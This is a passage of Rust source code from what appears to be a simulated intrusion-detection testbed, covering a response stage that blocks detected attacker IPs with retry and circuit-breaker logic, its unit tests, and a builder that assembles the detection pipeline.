                            .audit_event(attempt_ts, "notify-abandoned", None, e.to_string());
                    } else {
                        let delay = self.retry.backoff(pn.attempts, &mut self.rng);
                        pn.next_ts = attempt_ts.saturating_add(delay);
                        self.pending_notes.push(pn);
                    }
                }
            }
        }
    }

    /// Respond to a batch of outcomes. `now` is the response timestamp
    /// (block install time, TTL anchor, notification time): the
    /// closed-loop sink passes the engine's event time; record-stream
    /// executors pass `None`, anchoring each response at its alert's
    /// observation timestamp.
    pub fn respond(
        &mut self,
        now: Option<SimTime>,
        input: &[DetectOutcome],
        out: &mut Vec<OperatorNotification>,
    ) {
        for o in input {
            let Some(detection) = &o.detection else {
                continue;
            };
            let ts = now.unwrap_or(o.alert.ts);
            self.advance(ts, out);
            if self.block_on_detection {
                if let Some(src) = o.alert.src {
                    if self.blocked.insert(src) {
                        if let Some(tap) = &self.feedback {
                            tap.publish(ts, src);
                        }
                        let reason =
                            format!("detector: {} at {}", detection.trigger, detection.stage);
                        self.submit_block(ts, src, reason);
                    }
                }
            }
            let note = OperatorNotification {
                ts,
                entity: o.alert.entity.key_in(&self.scope),
                detection: detection.clone(),
                message: format!(
                    "preemption: {} reached stage '{}' (p={:.2}) on alert {}",
                    o.alert.entity.display_in(&self.scope),
                    detection.stage,
                    detection.score,
                    detection.trigger
                ),
                source: self.source.into(),
            };
            self.deliver_note(ts, note, out);
        }
    }

    /// Drain the retry queues at end of stream by advancing the clock to
    /// each next scheduled attempt. Terminates: every pass delivers,
    /// reschedules with a bounded attempt count, or abandons.
    fn drain_pending(&mut self, out: &mut Vec<OperatorNotification>) {
        loop {
            let next = self
                .pending_blocks
                .iter()
                .map(|p| p.next_ts)
                .chain(self.pending_notes.iter().map(|p| p.next_ts))
                .min();
            let Some(mut t) = next else {
                break;
            };
            if let Breaker::Open { until } = self.breaker {
                if until > t {
                    t = until;
                }
            }
            self.advance(t, out);
        }
    }
}

impl Stage<DetectOutcome, OperatorNotification> for ResponseStage {
    fn name(&self) -> &'static str {
        "response"
    }

    fn process_batch(&mut self, input: &[DetectOutcome], out: &mut Vec<OperatorNotification>) {
        self.respond(None, input, out);
    }

    fn flush(&mut self, out: &mut Vec<OperatorNotification>) {
        self.drain_pending(out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::Entity;
    use alertlib::filter::FilterConfig;
    use alertlib::symbolize::SymbolizerConfig;
    use alertlib::taxonomy::AlertKind;
    use detect::attack_tagger::TaggerConfig;
    use detect::train::toy_training_model;

    fn alert(t: u64, kind: AlertKind, user: &str) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User(user.into()))
    }

    #[test]
    fn tag_stage_emits_one_outcome_per_alert() {
        let mut stage = TagStage::new(AttackTagger::new(
            toy_training_model(),
            TaggerConfig::default(),
        ));
        let input = vec![
            alert(0, AlertKind::DownloadSensitive, "eve"),
            alert(10, AlertKind::CompileKernelModule, "eve"),
            alert(20, AlertKind::LogWipe, "eve"),
        ];
        let mut out = Vec::new();
        stage.process_batch(&input, &mut out);
        assert_eq!(out.len(), input.len(), "1:1 contract");
        assert!(out.iter().any(|o| o.detection.is_some()));
    }

    #[test]
    fn detector_stage_clone_starts_equivalent() {
        let stage = DetectorStage::rules(RuleBasedDetector::with_default_rules());
        let mut a = stage.clone();
        let mut b = stage;
        let input = vec![
            alert(0, AlertKind::KnownMalwareDownload, "eve"),
            alert(1, AlertKind::LoginSuccess, "alice"),
        ];
        let (mut oa, mut ob) = (Vec::new(), Vec::new());
        a.process_batch(&input, &mut oa);
        b.process_batch(&input, &mut ob);
        assert_eq!(oa.len(), ob.len());
        for (x, y) in oa.iter().zip(&ob) {
            assert_eq!(x.detection, y.detection);
        }
    }

    #[test]
    fn response_blocks_once_per_source_and_notifies() {
        let bhr = BhrHandle::new();
        let mut resp = ResponseStage::new(bhr.clone(), true, None, "attack-tagger");
        let src: Ipv4Addr = "103.102.1.1".parse().unwrap();
        let d = Detection {
            ts: SimTime::from_secs(5),
            alert_index: 0,
            trigger: AlertKind::C2Communication,
            score: 0.9,
            stage: detect::Stage::Foothold,
        };
        let outcome = |t: u64| DetectOutcome {
            alert: alert(t, AlertKind::C2Communication, "eve").with_src(src),
            detection: Some(d.clone()),
            attack_score: 0.9,
        };
        let mut notes = Vec::new();
        resp.process_batch(&[outcome(5), outcome(6)], &mut notes);
        assert_eq!(notes.len(), 2, "every detection notifies");
        assert_eq!(resp.blocked_sources(), 1, "block deduplicated per source");
        assert!(bhr.is_blocked(SimTime::from_secs(10), src));
        assert!(notes[0].message.contains("preemption"));
    }

    fn detection() -> Detection {
        Detection {
            ts: SimTime::from_secs(5),
            alert_index: 0,
            trigger: AlertKind::C2Communication,
            score: 0.9,
            stage: detect::Stage::Foothold,
        }
    }

    fn outcome_at(t: u64, user: &str, src: Ipv4Addr) -> DetectOutcome {
        DetectOutcome {
            alert: alert(t, AlertKind::C2Communication, user).with_src(src),
            detection: Some(detection()),
            attack_score: 0.9,
        }
    }

    fn fast_retry() -> bhr::retry::RetryPolicy {
        bhr::retry::RetryPolicy {
            max_attempts: 12,
            base_backoff: SimDuration::from_secs(1),
            max_backoff: SimDuration::from_secs(8),
            jitter_frac: 0.0,
            deadline: SimDuration::from_hours(1),
            breaker_threshold: 5,
            breaker_cooldown: SimDuration::from_secs(30),
        }
    }

    #[test]
    fn failed_blocks_retry_until_they_land() {
        use bhr::retry::FlakyBackend;
        let bhr = BhrHandle::with_backend(FlakyBackend::failing_first(2));
        let mut resp = ResponseStage::new(bhr.clone(), true, None, "attack-tagger")
            .with_retry(fast_retry(), 1);
        let src: Ipv4Addr = "103.102.1.1".parse().unwrap();
        let mut notes = Vec::new();
        resp.respond(None, &[outcome_at(5, "eve", src)], &mut notes);
        assert_eq!(notes.len(), 1, "notification still lands");
        assert!(!bhr.is_blocked(SimTime::from_secs(6), src), "RPC failed");
        assert_eq!(resp.pending_block_count(), 1);
        // End of stream: the flush drains the retry queue on schedule.
        resp.flush(&mut notes);
        assert!(bhr.is_blocked(SimTime::from_secs(100), src), "block landed");
        assert_eq!(resp.blocks_abandoned(), 0, "nothing permanently lost");
        assert_eq!(resp.blocks_retried(), 2);
        let commands: Vec<String> = bhr.audit_log().iter().map(|e| e.command.clone()).collect();
        assert_eq!(commands, vec!["block-failed", "block-failed", "block"]);
    }

    #[test]
    fn hopeless_blocks_are_abandoned_and_audited() {
        use bhr::retry::FlakyBackend;
        let bhr = BhrHandle::with_backend(FlakyBackend::new(1.0, 3));
        let policy = bhr::retry::RetryPolicy {
            max_attempts: 3,
            breaker_threshold: 0, // breaker off; exercise the cap alone
            ..fast_retry()
        };
        let mut resp =
            ResponseStage::new(bhr.clone(), true, None, "attack-tagger").with_retry(policy, 1);
        let src: Ipv4Addr = "103.102.1.2".parse().unwrap();
        let mut notes = Vec::new();
        resp.respond(None, &[outcome_at(5, "eve", src)], &mut notes);
        resp.flush(&mut notes);
        assert_eq!(resp.blocks_abandoned(), 1);
        assert_eq!(resp.pending_block_count(), 0);
        assert!(!bhr.is_blocked(SimTime::from_secs(10_000), src));
        let log = bhr.audit_log();
        assert!(log.iter().any(|e| e.command == "block-abandoned"));
        assert_eq!(
            log.iter().filter(|e| e.command == "block-failed").count(),
            3,
            "attempt cap respected"
        );
        // The intent is still recorded: the source counts as handled so
        // the stage will not re-decide it, and the audit trail shows why
        // no route exists.
        assert_eq!(resp.blocked_sources(), 1);
    }

    #[test]
    fn block_landing_exactly_at_the_deadline_is_not_abandoned() {
        use bhr::retry::FlakyBackend;
        // fast_retry (jitter 0) retries at +1s, +3s, +7s, +15s after the
        // first failure. With deadline = 7s the third retry lands
        // *exactly* on the boundary: per RetryPolicy ("past it the block
        // is abandoned") the boundary attempt is still inside the
        // budget, so a backend that recovers right after it gets probed
        // again and the block lands.
        let policy = bhr::retry::RetryPolicy {
            deadline: SimDuration::from_secs(7),
            ..fast_retry()
        };
        let bhr = BhrHandle::with_backend(FlakyBackend::failing_first(4));
        let mut resp =
            ResponseStage::new(bhr.clone(), true, None, "attack-tagger").with_retry(policy, 1);
        let src: Ipv4Addr = "103.102.2.1".parse().unwrap();
        let mut notes = Vec::new();
        resp.respond(None, &[outcome_at(100, "eve", src)], &mut notes);
        resp.flush(&mut notes);
        assert_eq!(
            resp.blocks_abandoned(),
            0,
            "the boundary attempt must not be the abandoning one"
        );
        assert!(bhr.is_blocked(SimTime::from_secs(200), src), "block landed");
        assert_eq!(resp.blocks_retried(), 4, "retries at +1, +3, +7, +15");
    }

    #[test]
    fn block_failing_past_the_deadline_is_abandoned() {
        use bhr::retry::FlakyBackend;
        // Same schedule, one more scripted failure: the +15s retry is
        // past the 7s deadline, so when it fails the block is abandoned
        // even though attempts remain.
        let policy = bhr::retry::RetryPolicy {
            deadline: SimDuration::from_secs(7),
            breaker_threshold: 0,
            ..fast_retry()
        };
        let bhr = BhrHandle::with_backend(FlakyBackend::failing_first(5));
        let mut resp =
            ResponseStage::new(bhr.clone(), true, None, "attack-tagger").with_retry(policy, 1);
        let src: Ipv4Addr = "103.102.2.2".parse().unwrap();
        let mut notes = Vec::new();
        resp.respond(None, &[outcome_at(100, "eve", src)], &mut notes);
        resp.flush(&mut notes);
        assert_eq!(resp.blocks_abandoned(), 1, "past-deadline failure gives up");
        assert!(!bhr.is_blocked(SimTime::from_secs(200), src));
        assert!(bhr
            .audit_log()
            .iter()
            .any(|e| e.command == "block-abandoned"));
    }

    #[test]
    fn breaker_half_open_probe_fires_exactly_at_the_cooldown_boundary() {
        use bhr::retry::FlakyBackend;
        // Two failures trip the breaker (threshold 2, cooldown 30s). A
        // block submitted while the breaker is open queues its first
        // attempt for the close instant; the backend has recovered by
        // then, so the probe at *exactly* `until` must land.
        let policy = bhr::retry::RetryPolicy {
            breaker_threshold: 2,
            breaker_cooldown: SimDuration::from_secs(30),
            ..fast_retry()
        };
        let bhr = BhrHandle::with_backend(FlakyBackend::failing_first(2));
        let mut resp =
            ResponseStage::new(bhr.clone(), true, None, "attack-tagger").with_retry(policy, 1);
        let mut notes = Vec::new();
        let s1: Ipv4Addr = "10.1.0.1".parse().unwrap();
        let s2: Ipv4Addr = "10.1.0.2".parse().unwrap();
        let s3: Ipv4Addr = "10.1.0.3".parse().unwrap();
        resp.respond(None, &[outcome_at(5, "u1", s1)], &mut notes);
        resp.respond(None, &[outcome_at(5, "u2", s2)], &mut notes);
        assert!(
            bhr.audit_log().iter().any(|e| e.command == "circuit-open"),
            "two consecutive failures trip the breaker"
        );
        // Submitted while open: queued untried, probe scheduled for the
        // breaker close at t = 5 + 30 = 35.
        resp.respond(None, &[outcome_at(10, "u3", s3)], &mut notes);
        assert!(!bhr.is_blocked(SimTime::from_secs(34), s3), "held open");
        // A detection at exactly the boundary closes the breaker and
        // releases the probe in the same advance.
        let s4: Ipv4Addr = "10.1.0.4".parse().unwrap();
        resp.respond(None, &[outcome_at(35, "u4", s4)], &mut notes);
        let log = bhr.audit_log();
        let close = log
            .iter()
            .find(|e| e.command == "circuit-close")
            .expect("breaker closed at the boundary");
        assert_eq!(close.ts, SimTime::from_secs(35));
        assert!(
            bhr.is_blocked(SimTime::from_secs(36), s3),
            "boundary probe landed"
        );
        resp.flush(&mut notes);
        assert_eq!(resp.blocks_abandoned(), 0, "nothing permanently lost");
        for s in [s1, s2, s3, s4] {
            assert!(bhr.is_blocked(SimTime::from_secs(100_000), s));
        }
    }

    #[test]
    fn circuit_breaker_trips_and_recovers() {
        use bhr::retry::FlakyBackend;
        // Fails the first 6 RPCs, then recovers: the breaker (threshold
        // 3) must trip, hold further RPCs, then close after cooldown and
        // let the queued blocks through.
        let bhr = BhrHandle::with_backend(FlakyBackend::failing_first(6));
        let policy = bhr::retry::RetryPolicy {
            breaker_threshold: 3,
            breaker_cooldown: SimDuration::from_secs(30),
            ..fast_retry()
        };
        let mut resp =
            ResponseStage::new(bhr.clone(), true, None, "attack-tagger").with_retry(policy, 1);
        let mut notes = Vec::new();
        let srcs: Vec<Ipv4Addr> = (1..=4).map(|i| Ipv4Addr::new(10, 0, 0, i)).collect();
        for (i, src) in srcs.iter().enumerate() {
            resp.respond(
                None,
                &[outcome_at(10 * (i as u64 + 1), &format!("u{i}"), *src)],
                &mut notes,
            );
        }
        let log = bhr.audit_log();
        assert!(
            log.iter().any(|e| e.command == "circuit-open"),
            "breaker tripped: {log:?}"
        );
        resp.flush(&mut notes);
        assert!(bhr.audit_log().iter().any(|e| e.command == "circuit-close"));
        assert_eq!(resp.blocks_abandoned(), 0);
        for src in &srcs {
            assert!(
                bhr.is_blocked(SimTime::from_secs(100_000), *src),
                "{src} must eventually land"
            );
        }
    }

    #[test]
    fn failed_notifications_retry_too() {
        struct FlakyNotify {
            fail_first: u32,
            calls: u32,
        }
        impl NotifyBackend for FlakyNotify {
            fn try_notify(&mut self, _: &OperatorNotification) -> Result<(), BlockError> {
                self.calls += 1;
                if self.calls <= self.fail_first {
                    Err(BlockError::Timeout)
                } else {
                    Ok(())
                }
            }
        }
        let bhr = BhrHandle::new();
        let mut resp = ResponseStage::new(bhr.clone(), false, None, "attack-tagger")
            .with_retry(fast_retry(), 1)
            .with_notify_backend(FlakyNotify {
                fail_first: 2,
                calls: 0,
            });
        let src: Ipv4Addr = "103.102.1.3".parse().unwrap();
        let mut notes = Vec::new();
        resp.respond(None, &[outcome_at(5, "eve", src)], &mut notes);
        assert!(notes.is_empty(), "first delivery failed");
        resp.flush(&mut notes);
        assert_eq!(notes.len(), 1, "notification re-delivered");
        assert_eq!(resp.notifications_retried(), 2);
        assert_eq!(resp.notifications_abandoned(), 0);
    }

    #[test]
    fn fault_stage_is_batch_boundary_invariant() {
        use scenario::faults::{ClockSkewConfig, FaultPlan};
        use scenario::{record_stream, RecordStreamConfig};
        let records = record_stream(
            &RecordStreamConfig {
                scan_records: 200,
                benign_flows: 100,
                exec_records: 100,
                users: 10,
                ..RecordStreamConfig::default()
            },
            &mut simnet::rng::SimRng::seed(8),
        );
        let plan = FaultPlan::clean(3)
            .with_loss(0.1)
            .with_duplication(0.05)
            .with_reorder(8)
            .with_clock(ClockSkewConfig {
                max_skew: SimDuration::from_secs(10),
                jitter: SimDuration::from_secs(1),
            });
        let run = |batch: usize| {
            let mut stage = FaultStage::new(plan.clone());
            let mut out = Vec::new();
            for chunk in records.chunks(batch) {
                stage.process_batch(chunk, &mut out);
            }
            stage.flush(&mut out);
            (out, stage.stats())
        };
        let (a, sa) = run(1);
        let (b, sb) = run(97);
        assert_eq!(a, b, "batching must be unobservable");
        assert_eq!(sa, sb);
    }

    #[test]
    fn monitor_stage_runs_batched_without_an_engine() {
        use simnet::flow::{Flow, FlowId};
        // A monitor fleet handed over from a MonitorHub, driven as a
        // batched stage against a synthesized context.
        let topo = simnet::topology::NcsaTopologyBuilder::default().build();
        let mut stage = MonitorStage::new(telemetry::MonitorHub::standard().into_monitors())
            .with_topology(topo);
        let actions: Vec<TimedAction> = (0..5u64)
            .map(|i| {
                let t = SimTime::from_secs(i);
                TimedAction {
                    time: t,
                    direction: Direction::Inbound,
                    action: Action::Flow(Flow::probe(
                        FlowId(i),
                        t,
                        "103.102.1.1".parse().unwrap(),
                        "141.142.2.9".parse().unwrap(),
                        22,
                    )),
                }
            })
            .collect();
        let mut records = Vec::new();
        stage.process_batch(&actions, &mut records);
        assert_eq!(records.len(), 5, "each probe yields a conn record");
        stage.flush(&mut records);
        assert!(records.len() >= 5, "flush may add windowed scan notices");
    }

    #[test]
    fn symbolize_and_filter_stages_compose() {
        use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
        let mut sym = SymbolizeStage::new(Symbolizer::new(SymbolizerConfig::default()));
        let mut filt = FilterStage::new(ScanFilter::new(FilterConfig::default()));
        let records: Vec<LogRecord> = (0..50u64)
            .map(|i| {
                LogRecord::Conn(telemetry::record::ConnRecord {
                    ts: SimTime::from_secs(i),
                    uid: FlowId(i),
                    orig_h: "103.102.1.1".parse().unwrap(),
                    orig_p: 40_000,
                    resp_h: "141.142.2.9".parse().unwrap(),
                    resp_p: 22,
                    proto: Proto::Tcp,
                    service: Service::Ssh,
                    duration: simnet::time::SimDuration::ZERO,
                    orig_bytes: 0,
                    resp_bytes: 0,
                    conn_state: ConnState::S0,
                    direction: Direction::Inbound,
                })
            })
            .collect();
        let mut alerts = Vec::new();
        sym.process_batch(&records, &mut alerts);
        assert_eq!(alerts.len(), 50);
        let mut admitted = Vec::new();
        filt.process_batch(&alerts, &mut admitted);
        assert!(
            admitted.len() < 5,
            "scan flood collapses: {}",
            admitted.len()
        );
        assert_eq!(filt.stats().seen, 50);
    }
}
