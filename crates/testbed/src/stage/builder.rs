//! Assembling stage chains.
//!
//! [`PipelineBuilder`] collects the Fig. 4 components plus the tee points
//! (alert retention, response wiring) and batching knobs, then produces
//! either a [`BuiltPipeline`] for record-stream executors or a
//! [`PipelineSink`](crate::pipeline::PipelineSink) for the closed-loop
//! simulation engine. Both paths share the exact same stage objects — the
//! builder is the single place the pipeline shape is defined.

use alertlib::filter::ScanFilter;
use alertlib::symbolize::Symbolizer;
use bhr::api::BhrHandle;
use detect::attack_tagger::AttackTagger;
use detect::correlate::{CampaignCorrelator, CorrelationPolicy};
use detect::rules::RuleBasedDetector;
use factorgraph::chain::ChainModel;
use scenario::adapt::FeedbackTap;
use scenario::faults::{FaultInjector, FaultPlan};
use simnet::intern::SymScope;
use simnet::time::{SimDuration, SimTime};
use telemetry::monitor::Monitor;
use telemetry::record::LogRecord;

use crate::config::{ExecutorKind, PipelineTuning, TestbedConfig};
use crate::pipeline::PipelineSink;
use crate::stage::adapters::{
    DetectorStage, FilterStage, MonitorStage, NotifyBackend, ResponseStage, SymbolizeStage,
};
use crate::stage::executor::{self, StreamReport};
use crate::stage::AlertRetention;

/// Builder for the Fig. 4 stage chain.
pub struct PipelineBuilder {
    symbolizer: Symbolizer,
    filter: ScanFilter,
    detector: DetectorStage,
    bhr: BhrHandle,
    block_on_detection: bool,
    detection_block_ttl: Option<SimDuration>,
    tuning: PipelineTuning,
    seed: u64,
    faults: Option<FaultPlan>,
    blackouts: Vec<(SimTime, SimTime)>,
    notify_backend: Option<Box<dyn NotifyBackend>>,
    correlation: Option<CorrelationPolicy>,
    block_feedback: Option<FeedbackTap>,
    scope: Option<SymScope>,
}

impl Default for PipelineBuilder {
    fn default() -> Self {
        Self::new()
    }
}

impl PipelineBuilder {
    /// A pipeline with default stages: default symbolizer and scan filter,
    /// the toy-trained factor-graph detector, a private BHR, and no
    /// detection-triggered blocking.
    pub fn new() -> Self {
        PipelineBuilder {
            symbolizer: Symbolizer::with_defaults(),
            filter: ScanFilter::default(),
            detector: DetectorStage::tagger(AttackTagger::new(
                detect::train::toy_training_model(),
                detect::TaggerConfig::default(),
            )),
            bhr: BhrHandle::new(),
            block_on_detection: false,
            detection_block_ttl: None,
            tuning: PipelineTuning::default(),
            seed: TestbedConfig::default().seed,
            faults: None,
            blackouts: Vec::new(),
            notify_backend: None,
            correlation: None,
            block_feedback: None,
            scope: None,
        }
    }

    /// Configure every stage from a [`TestbedConfig`] plus a trained
    /// detector model (the testbed orchestrator's path). A
    /// [`PipelineTuning::temporal`] override, when set, replaces the
    /// tagger's per-entity temporal policy at [`PipelineBuilder::build`]
    /// — the stage-adapter end of the `TestbedConfig::tuning` temporal
    /// knobs.
    pub fn from_config(cfg: &TestbedConfig, model: ChainModel) -> Self {
        let mut symbolizer_cfg = cfg.symbolizer.clone();
        for c2 in &cfg.c2_feed {
            symbolizer_cfg.c2_addresses.insert(*c2);
        }
        PipelineBuilder {
            symbolizer: Symbolizer::new(symbolizer_cfg),
            filter: ScanFilter::new(cfg.filter.clone()),
            detector: DetectorStage::tagger(AttackTagger::new(model, cfg.tagger.clone())),
            bhr: BhrHandle::new(),
            block_on_detection: cfg.block_on_detection,
            detection_block_ttl: cfg.detection_block_ttl,
            tuning: cfg.tuning.clone(),
            seed: cfg.seed,
            faults: None,
            blackouts: Vec::new(),
            notify_backend: None,
            correlation: None,
            block_feedback: None,
            scope: None,
        }
    }

    /// Override the top-level RNG seed (defaults to
    /// [`TestbedConfig::seed`]'s default, or the config's value when built
    /// via [`PipelineBuilder::from_config`]).
    pub fn seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }

    /// The RNG every scenario generator feeding this pipeline should use:
    /// seeded from the single top-level seed, so workload generation and
    /// pipeline assembly are reproducible together.
    pub fn scenario_rng(&self) -> simnet::rng::SimRng {
        simnet::rng::SimRng::seed(self.seed)
    }

    pub fn symbolizer(mut self, symbolizer: Symbolizer) -> Self {
        self.symbolizer = symbolizer;
        self
    }

    /// Mint and resolve the pipeline's symbols in an explicit
    /// [`SymScope`] instead of the process-global default. At
    /// [`build`](PipelineBuilder::build) the symbolizer, the campaign
    /// correlator's report rendering and the response stage's
    /// notification text are all rebound to the scope — the wiring a
    /// per-tenant service pipeline needs so its symbol universe lives
    /// (and dies) with the tenant.
    pub fn scope(mut self, scope: SymScope) -> Self {
        self.scope = Some(scope);
        self
    }

    pub fn filter(mut self, filter: ScanFilter) -> Self {
        self.filter = filter;
        self
    }

    /// Use the factor-graph detector.
    pub fn tagger(mut self, tagger: AttackTagger) -> Self {
        self.detector = DetectorStage::tagger(tagger);
        self
    }

    /// Use the rule-based baseline as the detection stage.
    pub fn rules_detector(mut self, rules: RuleBasedDetector) -> Self {
        self.detector = DetectorStage::rules(rules);
        self
    }

    /// Use the critical-alert-only baseline as the detection stage.
    pub fn critical_detector(mut self) -> Self {
        self.detector = DetectorStage::critical();
        self
    }

    /// Install any prepared detection stage.
    pub fn detector(mut self, detector: DetectorStage) -> Self {
        self.detector = detector;
        self
    }

    /// Share a BHR handle (e.g. the one the border filter consults).
    pub fn bhr(mut self, bhr: BhrHandle) -> Self {
        self.bhr = bhr;
        self
    }

    /// Whether detections trigger BHR blocks, and with what TTL.
    pub fn block_on_detection(mut self, block: bool, ttl: Option<SimDuration>) -> Self {
        self.block_on_detection = block;
        self.detection_block_ttl = ttl;
        self
    }

    pub fn tuning(mut self, tuning: PipelineTuning) -> Self {
        self.tuning = tuning;
        self
    }

    /// Override the detector's per-entity temporal policy (evidence decay,
    /// session timeout, gap observations) — recorded in the tuning and
    /// applied to the tagger stage at [`PipelineBuilder::build`].
    pub fn temporal(mut self, temporal: detect::attack_tagger::TemporalPolicy) -> Self {
        self.tuning.temporal = Some(temporal);
        self
    }

    /// Cap the detector's resident per-entity state (`0` = unbounded) —
    /// recorded in the tuning and applied to the tagger stage at
    /// [`PipelineBuilder::build`]. Eviction is detection-neutral: only
    /// session-timeout-expired entities are swept, so a bounded run's
    /// detections stay byte-identical to the unbounded baseline (see
    /// [`TaggerConfig::max_entities`](detect::TaggerConfig::max_entities)).
    pub fn detect_max_entities(mut self, max_entities: usize) -> Self {
        self.tuning.detect_max_entities = max_entities;
        self
    }

    /// Enable cross-entity campaign correlation with the given policy,
    /// overriding whatever the detector's [`TaggerConfig`] carries. The
    /// correlator runs on the merged outcome stream in every executor, so
    /// enabling it preserves cross-executor byte-identity.
    ///
    /// [`TaggerConfig`]: detect::TaggerConfig
    pub fn correlation(mut self, policy: CorrelationPolicy) -> Self {
        self.correlation = Some(policy);
        self
    }

    pub fn executor(mut self, executor: ExecutorKind) -> Self {
        self.tuning.executor = executor;
        self
    }

    pub fn batch_size(mut self, batch_size: usize) -> Self {
        self.tuning.batch_size = batch_size.max(1);
        self
    }

    pub fn stage_capacity(mut self, capacity: usize) -> Self {
        self.tuning.stage_capacity = capacity.max(1);
        self
    }

    pub fn detect_shards(mut self, shards: usize) -> Self {
        self.tuning.detect_shards = shards;
        self
    }

    /// Cap on retained post-filter alerts (0 disables retention).
    pub fn alert_retention(mut self, cap: usize) -> Self {
        self.tuning.alert_retention = cap;
        self
    }

    /// Inject telemetry faults (loss, blackouts, duplication, reordering,
    /// clock skew) between the record source and symbolization. The plan's
    /// own seed keeps the faulted stream identical across executors.
    pub fn faults(mut self, plan: FaultPlan) -> Self {
        self.faults = Some(plan);
        self
    }

    /// Declare telemetry outage windows the *operator knows about*
    /// (scheduled maintenance, an acknowledged sensor crash). The detector
    /// subtracts these spans from inter-alert gaps so a blackout is not
    /// misread as attacker silence. Deliberately separate from
    /// [`PipelineBuilder::faults`]: an injected blackout is only also
    /// *known* if the caller passes it here (typically via
    /// [`FaultPlan::blackout_spans`]).
    pub fn known_blackouts(mut self, windows: Vec<(SimTime, SimTime)>) -> Self {
        self.blackouts = windows;
        self
    }

    /// Route operator notifications through a fallible delivery backend
    /// (retried under the tuning's [`RetryPolicy`]); default delivery is
    /// direct and infallible.
    ///
    /// [`RetryPolicy`]: bhr::retry::RetryPolicy
    pub fn notify_backend(mut self, backend: impl NotifyBackend + 'static) -> Self {
        self.notify_backend = Some(Box::new(backend));
        self
    }

    /// Publish every block decision into `tap` — the detect→respond→adapt
    /// feedback channel a closed-loop adaptive attacker
    /// ([`scenario::adapt::ReactiveGenerator`]) observes. A pure side
    /// channel: detections stay byte-identical with or without the tap.
    pub fn block_feedback(mut self, tap: FeedbackTap) -> Self {
        self.block_feedback = Some(tap);
        self
    }

    /// Assemble the record-stream pipeline.
    pub fn build(mut self) -> BuiltPipeline {
        if let Some(temporal) = &self.tuning.temporal {
            self.detector.apply_temporal(temporal);
        }
        if self.tuning.detect_max_entities != 0 {
            self.detector
                .apply_entity_budget(self.tuning.detect_max_entities);
        }
        if !self.blackouts.is_empty() {
            self.detector.apply_blackouts(self.blackouts);
        }
        if let Some(policy) = self.correlation {
            self.detector.apply_correlation(Some(policy));
        }
        let mut correlate = self.detector.build_correlator();
        let source = self.detector.source();
        let mut response = ResponseStage::new(
            self.bhr,
            self.block_on_detection,
            self.detection_block_ttl,
            source,
        )
        .with_retry(self.tuning.retry.clone(), self.seed);
        if let Some(scope) = &self.scope {
            self.symbolizer.set_scope(scope.clone());
            if let Some(c) = correlate.as_mut() {
                c.set_scope(scope.clone());
            }
            response = response.with_scope(scope.clone());
        }
        if let Some(backend) = self.notify_backend {
            response = response.with_boxed_notify_backend(backend);
        }
        if let Some(tap) = self.block_feedback {
            response = response.with_block_feedback(tap);
        }
        BuiltPipeline {
            symbolize: SymbolizeStage::new(self.symbolizer),
            filter: FilterStage::new(self.filter),
            detect: self.detector,
            correlate,
            response,
            retention: AlertRetention::new(self.tuning.alert_retention),
            tuning: self.tuning,
            faults: self.faults.map(FaultInjector::new),
        }
    }

    /// Assemble the closed-loop simulation sink around a monitor fleet.
    pub fn build_sink(self, monitors: Vec<Box<dyn Monitor>>) -> PipelineSink {
        PipelineSink::from_built(MonitorStage::new(monitors), self.build())
    }
}

/// An assembled Fig. 4 record pipeline, ready to be driven by any
/// executor. The stage chain and its tee points are fixed; only the
/// execution strategy varies, and every strategy produces an identical
/// [`StreamReport`].
pub struct BuiltPipeline {
    pub(crate) symbolize: SymbolizeStage,
    pub(crate) filter: FilterStage,
    pub(crate) detect: DetectorStage,
    pub(crate) correlate: Option<CampaignCorrelator>,
    pub(crate) response: ResponseStage,
    pub(crate) retention: AlertRetention,
    pub(crate) tuning: PipelineTuning,
    pub(crate) faults: Option<FaultInjector>,
}

impl BuiltPipeline {
    /// Build directly from live stage components (compatibility path for
    /// callers that already hold them).
    pub fn from_stages(
        symbolizer: Symbolizer,
        filter: ScanFilter,
        tagger: AttackTagger,
        tuning: PipelineTuning,
    ) -> Self {
        let detect = DetectorStage::tagger(tagger);
        let correlate = detect.build_correlator();
        BuiltPipeline {
            symbolize: SymbolizeStage::new(symbolizer),
            filter: FilterStage::new(filter),
            detect,
            correlate,
            response: ResponseStage::new(BhrHandle::new(), false, None, "attack-tagger"),
            retention: AlertRetention::new(tuning.alert_retention),
            tuning,
            faults: None,
        }
    }

    pub fn tuning(&self) -> &PipelineTuning {
        &self.tuning
    }

    /// Drive the pipeline with the executor selected in the tuning.
    pub fn run<I>(self, records: I) -> StreamReport
    where
        I: IntoIterator<Item = LogRecord> + Send,
    {
        match self.tuning.executor {
            ExecutorKind::Inline => self.run_inline(records),
            ExecutorKind::Threaded => self.run_threaded(records),
            ExecutorKind::Sharded => self.run_sharded(records),
        }
    }

    /// Sequential execution in the calling thread.
    pub fn run_inline<I>(self, records: I) -> StreamReport
    where
        I: IntoIterator<Item = LogRecord>,
    {
        executor::run_inline(self, records)
    }

    /// One thread per stage, batched bounded channels.
    pub fn run_threaded<I>(self, records: I) -> StreamReport
    where
        I: IntoIterator<Item = LogRecord> + Send,
    {
        executor::run_threaded(self, records)
    }

    /// Threaded, with the detect stage sharded by entity hash across the
    /// rayon worker pool.
    pub fn run_sharded<I>(self, records: I) -> StreamReport
    where
        I: IntoIterator<Item = LogRecord> + Send,
    {
        executor::run_sharded(self, records)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builder_knobs_reach_built_pipeline() {
        let p = PipelineBuilder::new()
            .batch_size(64)
            .stage_capacity(512)
            .detect_shards(3)
            .alert_retention(7)
            .detect_max_entities(100)
            .executor(ExecutorKind::Sharded)
            .build();
        assert_eq!(p.tuning().batch_size, 64);
        assert_eq!(p.tuning().stage_capacity, 512);
        assert_eq!(p.tuning().shards(), 3);
        assert_eq!(p.retention.cap(), 7);
        assert_eq!(p.tuning().detect_max_entities, 100);
        assert_eq!(p.tuning().executor, ExecutorKind::Sharded);
    }

    #[test]
    fn seed_plumbs_from_config_into_scenario_rng() {
        let cfg = TestbedConfig {
            seed: 0xFEED,
            ..TestbedConfig::default()
        };
        let b = PipelineBuilder::from_config(&cfg, detect::train::toy_training_model());
        let mut r1 = b.scenario_rng();
        let mut r2 = simnet::rng::SimRng::seed(0xFEED);
        assert_eq!(r1.range_u64(0, 1_000), r2.range_u64(0, 1_000));
        // The builder override wins.
